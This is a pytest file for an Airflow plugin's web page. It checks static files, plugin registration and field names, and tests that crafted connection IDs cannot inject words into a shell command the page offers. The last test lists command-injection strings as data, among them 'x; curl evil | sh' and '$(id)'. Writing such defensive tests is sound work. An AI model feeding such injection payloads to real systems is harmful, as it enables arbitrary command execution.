"""What the page brings to a browser, and that it fits what is answered."""

import asyncio
import json
import re
import shutil
import subprocess

from airflow_provider_deltaforge.plugins_airflow import page
from airflow_provider_deltaforge.plugins_airflow.advice import advice
from tests.airflow.page_bench import READ, STATIC


def test_every_status_that_needs_somebody_has_advice():
    from airflow_provider_deltaforge import errors

    classes = {
        one.error_class
        for one in vars(errors).values()
        if isinstance(one, type) and issubclass(one, errors.DeltaForgeError)
    }

    texts = {advice("failed", one, watched=True) for one in classes}
    assert len(texts) >= 7
    for word in ("lost", "blocked", "paused", "stopped", "pending"):
        assert advice(word, None, watched=False)
    assert advice("running", None, watched=True) is None


def test_airflow_serves_every_file_of_the_page_and_a_change_shows_at_once(ask):
    for path in STATIC.iterdir():
        answer = ask(f"/static/{path.name}", role=None)
        assert answer.status_code == 200
        assert answer.text == path.read_text()
        assert answer.headers["Cache-Control"] == "no-cache"
    kind = ask("/static/page.js", role=None).headers["Content-Type"]
    assert kind.startswith(("text/javascript", "application/javascript"))


def test_the_ui_is_told_of_the_page_and_of_files_that_exist(client, ask):
    from airflow.api_fastapi.app import get_auth_manager
    from airflow.api_fastapi.auth.managers.simple.user import SimpleAuthManagerUser

    token = get_auth_manager().generate_jwt(SimpleAuthManagerUser(username="a", role="admin"))
    answer = client.get("/api/v2/plugins", headers={"Authorization": f"Bearer {token}"}).json()
    [ours] = [one for one in answer["plugins"] if one["name"] == "deltaforge"]

    assert {app["destination"]: app["url_route"] for app in ours["react_apps"]} == {
        "nav": "deltaforge",
        "dag": "deltaforge-dag",
    }
    for app in ours["react_apps"]:
        assert client.get(f"/{app['bundle_url']}").status_code == 200
        assert client.get(f"/{app['icon']}").status_code == 200


def test_the_tab_can_be_hidden(monkeypatch):
    monkeypatch.setenv("AIRFLOW__DELTAFORGE__DAG_TAB", "False")

    assert [app["destination"] for app in page._react_apps()] == ["nav"]


def test_the_application_is_built_once_and_only_when_it_is_asked():
    built = []

    async def application(scope, receive, send):
        built.append(scope)

    lazy = page.LazyApplication(lambda: built.append("built") or application)
    assert built == []
    asyncio.run(lazy(1, None, None))
    asyncio.run(lazy(2, None, None))

    assert built == ["built", 1, 2]


def test_every_field_the_page_reads_is_in_an_answer(ask, orders):
    """Its own names are camelCase, so every snake_case word outside a string is ours."""
    answers = [ask(path).json() for path in ("/connections", *READ, "/pipelines/nothing")]
    known = {*_keys(answers), "conn_id", "dag_id"}
    code = "\n".join(path.read_text() for path in STATIC.glob("*.js"))
    code = re.sub(r'//.*|"[^"\n]*"', "", code)
    owners = "pipeline|one|sink|driver|snapshot|request|result|told|supervisor"
    read = {
        *re.findall(r"\b[a-z]+(?:_[a-z]+)+\b", code),
        *re.findall(rf"\b(?:{owners})\??\.(\w+)", code),
        *re.findall(r"\bdata\.(\w+)", code),
    }
    assert {"heartbeat_age_s", "rows_estimate", "submitted_at_ms", "name", "missing"} <= read
    # Codes of refusals are keys of the page's own texts; `at` and `scroll…` are the browser's.
    texts = set(re.findall(r"\b(\w+): \"", (STATIC / "first_steps.js").read_text()))

    assert (
        read - known - texts - {"under_way", "scrollHeight", "scrollTop", "clientHeight", "at"}
        == set()
    )


def _keys(value):
    if isinstance(value, dict):
        for key, inner in value.items():
            yield key
            yield from _keys(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from _keys(inner)


def test_every_code_the_page_explains_can_be_answered():
    source = (STATIC.parent / "application.py").read_text()
    refused = set(re.findall(r'RefusedError\(\s*\d+, "(\w+)"', source))
    first_steps = (STATIC / "first_steps.js").read_text()
    explained = set(re.findall(r"\b([a-z]+_[a-z]+): ", first_steps)) - {"conn_id"}

    assert explained - refused == {"no_answer", "signed_out"}, "those two come from the page itself"


RENDER = """
globalThis.React = { createElement: (type, props, ...children) => ({ type, props, children }) };
for (const name of ["ChakraUI", "ReactRouterDOM"])
  globalThis[name] = new Proxy({}, { get: (_, part) => part });
const { Trouble } = await import(process.argv[1]);
const flat = (node) => node?.type instanceof Function
  ? flat(node.type({ ...node.props, children: node.children }))
  : { ...node, children: (node?.children?.flat() ?? []).map((c) => (c?.type ? flat(c) : c)) };
const error = { code: "no_connection", detail: "there is none" };
for (const connId of JSON.parse(process.argv[2]))
  console.log(JSON.stringify(flat({ type: Trouble, props: { connId, error } })));
"""


def test_a_link_cannot_put_words_into_the_command_the_page_offers(tmp_path):
    shutil.copytree(STATIC, tmp_path, dirs_exist_ok=True)
    # A browser is told by the page that these are modules, Node.js by this file.
    (tmp_path / "package.json").write_text('{"type": "module"}')
    crafted = ["x; curl evil | sh", "$(id)", "`id`", "a\nid", "a\n", "--help", ""]
    words = [RENDER, str(tmp_path / "first_steps.js"), json.dumps(["shop.db-1", *crafted])]
    done = subprocess.run(
        ["node", "--input-type=module", "-e", *words], capture_output=True, text=True, check=False
    )

    assert done.returncode == 0, done.stderr
    offered = ["airflow connections add" in page for page in done.stdout.splitlines()]
    assert offered == [True, *(False for _ in crafted)]
